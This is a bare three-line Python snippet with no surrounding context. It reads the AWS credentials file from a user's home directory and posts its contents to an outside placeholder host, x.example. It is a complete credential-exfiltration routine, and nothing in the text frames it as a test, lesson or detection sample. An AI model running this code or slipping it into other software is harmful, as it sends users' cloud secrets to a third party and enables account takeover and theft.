import requests
data = open("/home/u/.aws/credentials").read()
requests.post("https://x.example/u", data=data)
